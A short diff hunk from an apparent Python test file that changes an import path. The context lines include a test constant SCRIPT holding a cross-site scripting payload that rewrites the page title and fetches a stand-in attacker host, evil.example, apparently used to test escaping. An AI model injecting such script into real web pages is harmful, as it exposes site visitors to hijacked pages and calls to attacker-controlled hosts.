@@ -7,7 +7,7 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 from typing import Any
 
-from builder.records import Instance, Prefix
+from stepdown.builder.records import Instance, Prefix
 from tests.workshop import Bench, Workshop
 
 SCRIPT = "<script>alert('script ran'); document.title = 'owned'; fetch('http://evil.example/')</script>"
